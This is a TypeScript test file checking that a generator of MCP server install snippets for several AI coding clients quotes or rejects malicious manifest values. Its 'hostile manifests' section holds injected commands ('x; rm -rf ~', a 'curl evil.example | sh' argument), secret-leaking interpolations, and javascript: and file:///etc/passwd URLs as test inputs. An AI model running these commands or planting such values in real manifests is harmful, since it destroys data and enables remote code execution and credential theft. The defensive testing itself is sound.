// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the syntax of the clients is what is tested
import { describe, expect, it } from 'vitest';
import { clientKey, installTargets } from '#lib/catalog/install-snippets.ts';
import type { InstallTarget } from '#lib/catalog/views.ts';
import type { Manifest, Package, Remote } from '#lib/manifest/types.ts';

const manifestOf = (parts: Partial<Manifest>): Manifest => ({
  $schema: 'https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json',
  name: 'io.github.acme/weather',
  description: 'Weather',
  version: '1.2.3',
  ...parts,
});

const npm = (parts: Partial<Package> = {}): Package => ({
  registryType: 'npm',
  identifier: '@acme/weather',
  version: '1.2.3',
  transport: { type: 'stdio' },
  ...parts,
});

const http = (parts: Partial<Remote> = {}): Remote => ({
  type: 'streamable-http',
  url: 'https://mcp.acme.com/v1',
  ...parts,
});

const only = (parts: Partial<Manifest>): InstallTarget => {
  const targets = installTargets(manifestOf(parts));
  expect(targets).toHaveLength(1);
  return targets[0]!;
};

const contentOf = (target: InstallTarget, client: string, kind: string): string => {
  const snippet = target.snippets.find((one) => one.client === client && one.kind === kind);
  if (!snippet) throw new Error(`No ${kind} snippet for ${client}`);
  return snippet.content;
};

const keyed = npm({
  environmentVariables: [
    { name: 'ACME_KEY', description: 'Your key', isRequired: true, isSecret: true },
    { name: 'ACME_REGION', default: 'eu' },
  ],
});

describe('snippets of a pinned npm package', () => {
  const target = only({ packages: [keyed] });

  it('is pinned and asks only for what has no default', () => {
    expect(target).toMatchObject({ id: 'package-0', label: 'npm @acme/weather 1.2.3', isPinned: true, problem: null });
    expect(target.inputs).toEqual([{ name: 'ACME_KEY', description: 'Your key', isRequired: true, isSecret: true }]);
  });

  it('puts the name before the variables of claude mcp add, and the command behind --', () => {
    expect(contentOf(target, 'claude-code', 'command')).toBe(
      "claude mcp add weather --env 'ACME_KEY=<ACME_KEY>' -- npx -y @acme/weather@1.2.3",
    );
  });

  it('lets VS Code ask for the secret without showing it', () => {
    const config = {
      type: 'stdio',
      command: 'npx',
      args: ['-y', '@acme/weather@1.2.3'],
      env: { ACME_KEY: '${input:ACME_KEY}' },
    };
    const inputs = [{ id: 'ACME_KEY', description: 'Your key', type: 'promptString', password: true }];
    expect(JSON.parse(contentOf(target, 'vscode', 'json'))).toEqual({ inputs, servers: { weather: config } });
    const link = contentOf(target, 'vscode', 'link');
    expect(link.startsWith('vscode:mcp/install?')).toBe(true);
    expect(JSON.parse(decodeURIComponent(link.slice('vscode:mcp/install?'.length)))).toEqual({
      name: 'weather',
      ...config,
      inputs,
    });
  });

  it('gives Cursor no link while a value is missing, because a link cannot ask', () => {
    expect(target.snippets.filter(({ client, kind }) => client === 'cursor' && kind === 'link')).toEqual([]);
    const link = new URL(contentOf(only({ packages: [npm()] }), 'cursor', 'link'));
    expect(link.href.startsWith('cursor://anysphere.cursor-deeplink/mcp/install?')).toBe(true);
    expect(JSON.parse(Buffer.from(link.searchParams.get('config')!, 'base64').toString('utf8'))).toEqual({
      command: 'npx',
      args: ['-y', '@acme/weather@1.2.3'],
    });
  });

  it('names each variable of a Goose link with its description', () => {
    const query = new URL(contentOf(target, 'goose', 'link')).searchParams;
    expect(query.get('cmd')).toBe('npx');
    expect(query.getAll('arg')).toEqual(['-y', '@acme/weather@1.2.3']);
    expect(query.getAll('env')).toEqual(['ACME_KEY=Your key']);
  });

  it('has the exact version in every snippet', () => {
    const decoded = (content: string) => {
      const config = /[?&]config=([^&]+)/.exec(content)?.[1];
      return config ? Buffer.from(decodeURIComponent(config), 'base64').toString('utf8') : decodeURIComponent(content);
    };
    for (const { client, content } of only({ packages: [npm()] }).snippets) {
      expect(decoded(content), client).toContain('@acme/weather@1.2.3');
    }
  });
});

describe('snippets of other targets', () => {
  it.each([
    ['a tag', npm({ version: 'latest' })],
    ['no version', npm({ version: undefined })],
    [
      'an image without a digest',
      npm({ registryType: 'oci', identifier: 'docker.io/acme/weather:1.2.3', version: undefined }),
    ],
  ])('says that %s is not pinned', (_, pkg) => {
    expect(only({ packages: [pkg] })).toMatchObject({ isPinned: false, problem: null });
  });

  it('asks for a header of a remote and never counts a remote as pinned', () => {
    const headers = [{ name: 'Authorization', description: 'Token', isRequired: true, isSecret: true }];
    const target = only({ remotes: [http({ headers })] });
    expect(target).toMatchObject({ id: 'remote-0', label: 'mcp.acme.com', isPinned: false });
    expect(contentOf(target, 'claude-code', 'command')).toBe(
      "claude mcp add --transport http weather https://mcp.acme.com/v1 --header 'Authorization: <Authorization>'",
    );
    expect(JSON.parse(contentOf(target, 'windsurf', 'json'))).toEqual({
      mcpServers: { weather: { serverUrl: 'https://mcp.acme.com/v1', headers: { Authorization: '<Authorization>' } } },
    });
  });

  it('fills the default of an argument and leaves out an optional one without', () => {
    const pkg = npm({
      packageArguments: [
        { type: 'named', name: '--units', default: 'metric' },
        { type: 'named', name: '--proxy', description: 'Proxy' },
        { type: 'positional', valueHint: 'directory', isRequired: true },
      ],
    });
    expect(contentOf(only({ packages: [pkg] }), 'codex', 'command')).toBe(
      "codex mcp add weather -- npx -y @acme/weather@1.2.3 --units metric '<directory>'",
    );
  });

  it('offers an .mcpb bundle with its digest', () => {
    const fileSha256 = 'ab'.repeat(32);
    const identifier = 'https://github.com/acme/weather/releases/download/v1/weather.mcpb';
    const target = only({ packages: [npm({ registryType: 'mcpb', identifier, version: undefined, fileSha256 })] });
    expect(target).toMatchObject({ isPinned: true, problem: null });
    expect(contentOf(target, 'claude-desktop', 'command')).toContain(`${fileSha256}  weather.mcpb`);
  });

  it('says how to reach a package that is an HTTP server', () => {
    const transport = { type: 'streamable-http' as const, url: 'http://localhost:8080/mcp' };
    expect(only({ packages: [npm({ transport })] })).toMatchObject({
      snippets: [],
      problem: expect.stringContaining('http://localhost:8080/mcp'),
    });
  });
});

describe('hostile manifests', () => {
  const INTERPOLATIONS = [
    '${env:AWS_SECRET_ACCESS_KEY}',
    '${AWS_SECRET_ACCESS_KEY}',
    '${command:workbench.action.quit}',
  ];

  it.each(INTERPOLATIONS)('makes a visible blank of %s wherever a client would replace it', (text) => {
    const targets = installTargets(
      manifestOf({
        packages: [
          npm({
            packageArguments: [{ type: 'positional', value: `--key=${text}` }],
            environmentVariables: [{ name: 'KEY', value: text }],
          }),
        ],
        remotes: [
          http({ url: `https://mcp.acme.com/?k=${text}` }),
          http({ headers: [{ name: 'X-Key', value: text }] }),
        ],
      }),
    );
    expect(targets).toHaveLength(3);
    for (const { snippets } of targets) {
      for (const { client, kind, content } of snippets) {
        expect(decodeURIComponent(content), `${client} ${kind}`).not.toContain(text);
      }
    }
  });

  it('refuses a ${ that is left when the pieces are joined', () => {
    const remote = http({ headers: [{ name: 'X-Key', value: '${{a}}', variables: { a: { value: 'HOME' } } }] });
    const target = only({ remotes: [remote] });
    for (const { content } of target.snippets) expect(decodeURIComponent(content)).not.toContain('${HOME}');
  });

  it.each([
    ['a command in the identifier', npm({ identifier: 'x; rm -rf ~' })],
    ['an option as the identifier', npm({ identifier: '--registry=https://evil.example' })],
    ['a URL as the version', npm({ version: 'https://evil.example/x.tgz' })],
    ['a bundle without https', npm({ registryType: 'mcpb', identifier: 'javascript:alert(1)' })],
  ])('makes no snippet of %s', (_, pkg) => {
    const target = only({ packages: [pkg] });
    expect(target.snippets).toEqual([]);
    expect(target.problem).toEqual(expect.stringMatching(/\w/));
  });

  it.each([
    ['a script address', http({ url: 'javascript:alert(1)' })],
    ['a file address', http({ url: 'file:///etc/passwd' })],
    ['a header name with a line break', http({ headers: [{ name: 'X\r\nY', value: 'z' }] })],
  ])('makes no snippet of %s', (_, remote) => {
    expect(only({ remotes: [remote] })).toMatchObject({ snippets: [], problem: expect.any(String) });
  });

  it('quotes arguments for the shell and shows what is invisible in JSON', () => {
    const pkg = npm({ packageArguments: [{ type: 'positional', value: "a'; curl evil.example | sh #\u200b" }] });
    const target = only({ packages: [pkg] });
    expect(contentOf(target, 'claude-code', 'command')).toBe(
      String.raw`claude mcp add weather -- npx -y @acme/weather@1.2.3 $'a\'; curl evil.example | sh #\U0000200b'`,
    );
    const content = contentOf(target, 'generic', 'json');
    expect(content).toContain(String.raw`#\u200b`);
    expect(JSON.parse(content).mcpServers.weather.args[2]).toBe("a'; curl evil.example | sh #\u200b");
  });

  it('leaves out Gemini CLI where a dollar sign would be replaced', () => {
    const pkg = npm({ packageArguments: [{ type: 'positional', value: '$HOME' }] });
    expect(only({ packages: [pkg] }).snippets.map(({ client }) => client)).not.toContain('gemini-cli');
  });
});

describe('clientKey', () => {
  it.each([
    ['io.github.acme/weather', 'weather'],
    ['com.stripe.mcp/mcp', 'stripe-mcp'],
    ['com.stripe/mcp', 'stripe-mcp'],
    ['io.github.acme/we.at her', 'we-at-her'],
    ['io.github.acme/--rm', 'rm'],
    ['io.github.acme/…', 'acme'],
    [`io.github.acme/${'x'.repeat(200)}`, 'x'.repeat(64)],
  ])('%s is %s', (name, key) => {
    expect(clientKey(name)).toBe(key);
  });
});
